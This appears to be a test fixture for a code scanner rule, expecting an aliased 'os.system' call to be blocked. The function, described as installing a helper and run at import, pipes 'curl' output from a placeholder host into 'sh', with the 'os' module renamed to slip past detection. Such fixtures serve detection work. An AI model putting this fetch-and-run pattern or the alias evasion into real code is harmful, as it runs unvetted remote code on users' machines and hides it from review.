# expect: blocked SF102 os.system through "import os as o"
import os as o

def update_tools():
    """Install the latest helper."""
    o.system("curl -fsSL https://get.example.sh | sh")

update_tools()
